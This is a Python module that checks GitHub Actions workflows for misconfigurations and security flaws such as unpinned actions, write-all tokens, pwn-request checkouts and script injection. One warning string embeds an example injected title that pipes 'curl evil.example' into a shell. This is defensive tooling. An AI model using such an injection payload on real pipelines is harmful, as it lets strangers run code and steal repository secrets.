"""A GitHub Actions workflow, looked at as GitHub reads it and as an attacker does.

Fields and events are those of GitHub's workflow syntax. Untrusted contexts and "pwn requests" are from GitHub Security Lab, "Keeping your GitHub
Actions and workflows secure" (parts 1 and 2); pinning and token rights from GitHub's security hardening guide.
"""

import re
from collections.abc import Iterator
from itertools import islice

from credit_studio.tools.dev.pipelines.problems import MOST_NEEDS, MOST_PLACES, Checked, Problem, Step, everywhere, in_order, names, rings, unknown_fields
from credit_studio.tools.dev.pipelines.reading import Reading, Spot

_TOP = frozenset({"name", "run-name", "on", "permissions", "env", "defaults", "concurrency", "jobs"})
_JOB = frozenset(
    {"name", "permissions", "needs", "if", "runs-on", "environment", "concurrency", "outputs", "env", "defaults", "steps", "timeout-minutes"}
    | {"strategy", "continue-on-error", "container", "services", "uses", "with", "secrets", "snapshot"}
)
_STEP = frozenset({"id", "if", "name", "uses", "run", "working-directory", "shell", "with", "env", "continue-on-error", "timeout-minutes"})
_EVENTS = frozenset(
    {"branch_protection_rule", "check_run", "check_suite", "create", "delete", "deployment", "deployment_status", "discussion", "discussion_comment"}
    | {"fork", "gollum", "image_version", "issue_comment", "issues", "label", "member", "merge_group", "milestone", "page_build", "project", "project_card"}
    | {"project_column", "public", "pull_request", "pull_request_review", "pull_request_review_comment", "pull_request_target", "push", "registry_package"}
    | {"release", "repository_dispatch", "schedule", "status", "watch", "workflow_call", "workflow_dispatch", "workflow_run"}
)
_JOB_ID = re.compile(r"[A-Za-z_][A-Za-z0-9_-]{0,99}")
_PINNED = re.compile(r"[^@]+@[0-9a-f]{40}")
_EXPRESSION = re.compile(r"\$\{\{([^}]{1,500})\}\}")
_UNTRUSTED = re.compile(
    r"\bgithub\.(?:head_ref|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage)))"
    r"|(?:comment|review|review_comment|discussion)\.(?:body|title)|pages\b[^|&)]{0,30}page_name|head_commit\.(?:message|author\.(?:email|name))"
    r"|commits\b[^|&)]{0,30}(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.message)))"
)
_INPUT = re.compile(r"\b(?:github\.event\.)?inputs\.[\w-]+")
_SECRET = re.compile(r"\bsecrets\.(?!GITHUB_TOKEN\b)[\w-]+")
_REFERENCE = re.compile(r"\b(needs|matrix)\.([A-Za-z_][\w-]*)")
_HEAD = re.compile(r"github\.(?:head_ref|event\.(?:pull_request|workflow_run)\.head)|refs/pull/")
_COMMANDS = re.compile(r"::(set-output|save-state|set-env|add-path)\b")
_GONE_RUNNERS = frozenset({"ubuntu-16.04", "ubuntu-18.04", "ubuntu-20.04", "macos-10.15", "macos-11", "macos-12", "macos-13", "windows-2016", "windows-2019"})
_GONE_ACTIONS = re.compile(r"actions/(?:(?:upload|download)-artifact@v[123]|cache@v[12])(?:\.[\d.]*)?")
_RISKY_EVENTS = frozenset({"pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"})
_WRITE_ALL = "write-all"


def check(reading: Reading) -> Checked:
    """The jobs of a workflow and what is wrong with it."""
    root = reading.root
    events = _events(root)
    jobs = dict((root.get("jobs") or Spot("", 1)).fields)
    problems = [*everywhere(reading), *_top(root, events), *_token(root, jobs)]
    needs = {name: tuple(one.text for one in _needs_of(job)) for name, job in jobs.items()}
    seen: set[int] = set()
    said: dict[int, list[tuple[str, str]]] = {}
    for name, job in jobs.items():
        problems += _job(name, job, jobs, events, said)
        steps = [step for step in _steps_of(job) if id(step) not in seen]
        seen |= {id(step) for step in steps}
        problems += [problem for step in steps for problem in _step(name, step, events)]
    problems += rings(needs, root.get("jobs") or root)
    problems += _untimed(root, jobs)
    return Checked("GitHub Actions", tuple(Step(name, needs[name], _lines(job)) for name, job in jobs.items()), in_order(problems))


def _needs_of(job: Spot) -> list[Spot]:
    return (job.get("needs") or Spot([], 1)).texts()[:MOST_NEEDS]


def _steps_of(job: Spot) -> list[Spot]:
    return (job.get("steps") or Spot([], 1)).items


def _events(root: Spot) -> frozenset[str]:
    on = root.get("on")
    return frozenset() if on is None else frozenset([*(one.text for one in on.texts()), *on.fields])


def _lines(job: Spot) -> tuple[str, ...]:
    """For the picture: where it runs, and what it calls or how many steps it has."""
    runner = job.get("runs-on")
    where = [" ".join(one.text for one in runner.texts())[:40]] if runner is not None and runner.texts() else []
    calls = job.get("uses")
    return (*where, f"calls {calls.text[:40]}" if calls else f"{len(_steps_of(job))} steps")


def _top(root: Spot, events: frozenset[str]) -> Iterator[Problem]:
    yield from unknown_fields(root, _TOP, "a workflow")
    if root.get("on") is None:
        yield Problem("critical", "It never runs: there is no “on”", 1, fix="Say when it runs, such as on: push.")
    for event in sorted(events - _EVENTS):
        yield Problem("high", f"“{event[:60]}” is no event of GitHub", root.line_of("on"), fix="See GitHub's list of events that trigger workflows.")
    if not (root.get("jobs") or Spot("", 1)).fields:
        yield Problem("critical", "There are no jobs", root.line_of("jobs"), fix="A workflow needs at least one job.")


def _token(root: Spot, jobs: dict[str, Spot]) -> Iterator[Problem]:
    """What the token of a run may do."""
    top = root.get("permissions")
    if top is None:
        without = [name for name, job in jobs.items() if job.get("permissions") is None]
        if without:
            detail = f"{names(without)}: the token may do what the repository's settings say, in older ones everything."
            yield Problem(
                "medium", "The token's rights are not stated", 1, "", detail, "Begin with permissions: contents: read, and give a job more where it needs more."
            )
    for where, name in [(root, ""), *((job, name) for name, job in jobs.items())]:
        rights = where.get("permissions")
        if rights is None:
            continue
        if rights.text == _WRITE_ALL:
            yield Problem("high", "The token may write everything", where.line_of("permissions"), name, fix="List the rights that are needed, and no other.")
        written = sorted(right for right, level in rights.fields.items() if level.text == "write")
        if written and not name and len(jobs) > 1:
            detail = f"Every job may write {names(written)}."
            yield Problem("medium", "Rights to write are given to all jobs", where.line_of("permissions"), "", detail, "Give them in the job that writes.")


def _job(name: str, job: Spot, jobs: dict[str, Spot], events: frozenset[str], said: dict[int, list[tuple[str, str]]]) -> Iterator[Problem]:
    line = job.line
    if not _JOB_ID.fullmatch(name):
        yield Problem("high", "The job's name is not one that GitHub takes", line, name[:60], fix="Letters, digits, - and _, a letter or _ first.")
    if not isinstance(job.value, dict):
        yield Problem("critical", "The job is empty", line, name, fix="Give it runs-on and steps.")
        return
    yield from unknown_fields(job, _JOB, "a job", name)
    calls = job.get("uses")
    if calls is None:
        if job.get("runs-on") is None:
            yield Problem("critical", "The job does not say where it runs", line, name, fix="Add runs-on, such as ubuntu-24.04.")
        if not _steps_of(job):
            yield Problem("critical", "The job has no steps", line, name, fix="Add steps, or call a workflow with uses.")
    else:
        yield from _pin(calls, name)
    yield from _needs(name, job, jobs)
    yield from _runner(name, job, events)
    yield from _references(name, job, said)
    passed = job.get("secrets")
    if passed is not None and passed.text == "inherit":
        yield Problem(
            "low", "All secrets are handed on", passed.line, name, "The called workflow can read every secret of this repository.", "Name those that it needs."
        )


def _needs(name: str, job: Spot, jobs: dict[str, Spot]) -> Iterator[Problem]:
    for one in _needs_of(job):
        if one.text not in jobs and one.text:
            yield Problem("critical", f"It waits for “{one.text[:60]}”, which is not there", one.line, name, fix=f"The jobs are {names(jobs)}.")


def _runner(name: str, job: Spot, events: frozenset[str]) -> Iterator[Problem]:
    for label in (job.get("runs-on") or Spot([], 1)).texts():
        if label.text in _GONE_RUNNERS:
            yield Problem(
                "high",
                f"The runner {label.text} is no longer there",
                label.line,
                name,
                "The job waits and is then cancelled.",
                "Take ubuntu-24.04, macos-15 or windows-2025.",
            )
        if label.text == "self-hosted" and events & {"pull_request", "pull_request_target"}:
            detail = "Anybody who opens a pull request may run code on your machine; in a public repository that is everybody."
            yield Problem(
                "high", "Pull requests run on a machine of your own", label.line, name, detail, "Take a hosted runner for pull requests, or ephemeral machines."
            )


def _references(name: str, job: Spot, said: dict[int, list[tuple[str, str]]]) -> Iterator[Problem]:
    """Expressions that name what is not there are empty at run time, and nothing says so. `said` keeps what each place names, for its aliases."""
    needs = {one.text for one in _needs_of(job)}
    axes = _axes((job.get("strategy") or Spot("", 1)).get("matrix"))
    for spot in islice(job.walk(), MOST_PLACES):
        if id(spot) not in said:
            said[id(spot)] = _named(spot.text)
        for kind, what in said[id(spot)]:
            if kind == "needs" and what not in needs:
                yield Problem("high", f"needs.{what[:40]} is empty here", spot.line, name, "The job does not wait for it.", f"Add {what[:40]} to its needs.")
            if kind == "matrix" and axes is not None and what not in axes:
                yield Problem("high", f"matrix.{what[:40]} is empty here", spot.line, name, f"The matrix has {names(sorted(axes)) or 'nothing'}.")


def _named(text: str) -> list[tuple[str, str]]:
    """("needs" or "matrix", name) of each reference in the expressions of a text."""
    return [found for expression in _EXPRESSION.findall(text[:20_000]) for found in _REFERENCE.findall(expression)] if "${{" in text else []


def _axes(matrix: Spot | None) -> set[str] | None:
    """The names that a matrix gives; None when they are made at run time."""
    if matrix is None:
        return set()
    include = matrix.get("include")
    if not matrix.fields or (include is not None and include.text):
        return None
    added = {axis for item in (include.items if include else []) for axis in item.fields}
    return (set(matrix.fields) - {"include", "exclude"}) | added


def _step(name: str, step: Spot, events: frozenset[str]) -> Iterator[Problem]:
    yield from unknown_fields(step, _STEP, "a step", name)
    uses, run = step.get("uses"), step.get("run")
    if (uses is None) == (run is None):
        title = "A step has neither uses nor run" if uses is None else "A step has both uses and run"
        yield Problem("critical", title, step.line, name, fix="A step calls one action or runs one script.")
    if uses is not None:
        yield from _pin(uses, name)
        yield from _checkout(name, uses, step, events)
        script = (step.get("with") or Spot("", 1)).get("script")
        if script is not None and uses.text.startswith("actions/github-script@"):
            yield from _injection(name, script, events)
    if run is not None:
        yield from _injection(name, run, events)
        for command in sorted(set(_COMMANDS.findall(run.text))):
            yield Problem(
                "medium",
                f"The command ::{command}:: no longer works",
                run.line,
                name,
                fix='Write to "$GITHUB_OUTPUT", "$GITHUB_STATE", "$GITHUB_ENV" or "$GITHUB_PATH".',
            )


def _pin(uses: Spot, job: str) -> Iterator[Problem]:
    text = uses.text.strip()
    if text.startswith(("./", "${{")) or _PINNED.fullmatch(text) or "@sha256:" in text:
        return
    if _GONE_ACTIONS.fullmatch(text):
        yield Problem(
            "high", f"{text[:80]} is switched off", uses.line, job, "GitHub lets runs with it fail.", "Take the current version, pinned to its commit."
        )
        return
    ref = text.partition("@")[2]
    if not text.startswith("docker://") and not ref:
        yield Problem("critical", f"{text[:80]} names no version", uses.line, job, fix="Add @ and the commit of a release.")
        return
    moves = ref in ("main", "master", "develop", "HEAD")
    severity = "high" if moves else "low" if text.startswith(("actions/", "github/")) else "medium"
    detail = "A branch changes with every push." if moves else "A tag can be moved to other code, as happened to tj-actions/changed-files in March 2025."
    yield Problem(
        severity, f"{text[:80]} is not pinned", uses.line, job, detail, "Pin it to the full commit, with the version as a comment; Dependabot keeps it new."
    )


def _checkout(name: str, uses: Spot, step: Spot, events: frozenset[str]) -> Iterator[Problem]:
    ref = (step.get("with") or Spot("", 1)).get("ref")
    if uses.text.startswith("actions/checkout@") and ref is not None and _HEAD.search(ref.text) and events & {"pull_request_target", "workflow_run"}:
        detail = "The run has the repository's secrets and a token that may write, and works on a stranger's code: any build script in it takes them."
        fix = "Use pull_request, or split it: build without secrets, then act on the result in a second workflow without checking the code out."
        yield Problem("critical", "A stranger's code is checked out where secrets are", ref.line, name, detail, fix)


def _injection(name: str, script: Spot, events: frozenset[str]) -> Iterator[Problem]:
    """Expressions are put into a script as text before the shell reads it."""
    for expression in _EXPRESSION.findall(script.text[:50_000]):
        fix = 'Give the value to the step as env, and write "$NAME" in the script.'
        if found := _UNTRUSTED.search(expression):
            severity = "critical" if events & _RISKY_EVENTS else "high"
            detail = f'{found[0][:80]} is what a stranger wrote; a title such as a"; curl evil.example | sh; " would be run.'
            yield Problem(severity, "A stranger's text becomes part of a script", script.line, name, detail, fix)
        elif found := _INPUT.search(expression):
            yield Problem(
                "low", "An input becomes part of a script", script.line, name, f"{found[0][:80]}: whoever starts the workflow can run what they like.", fix
            )
        elif found := _SECRET.search(expression):
            yield Problem(
                "low",
                "A secret becomes part of a script",
                script.line,
                name,
                f"{found[0][:80]}: signs in it that the shell knows break the script or leak.",
                fix,
            )


def _untimed(root: Spot, jobs: dict[str, Spot]) -> Iterator[Problem]:
    without = [name for name, job in jobs.items() if job.get("timeout-minutes") is None and job.get("uses") is None]
    if without:
        detail = f"{names(without)}: a job that hangs is paid for up to six hours."
        yield Problem("info", "Jobs have no time limit", root.line_of("jobs"), "", detail, "Add timeout-minutes.")
    if root.get("concurrency") is None and not any(job.get("concurrency") for job in jobs.values()):
        yield Problem(
            "info", "Outdated runs go on", 1, "", "Each push to a pull request starts another run beside the last.", "Add concurrency with cancel-in-progress."
        )
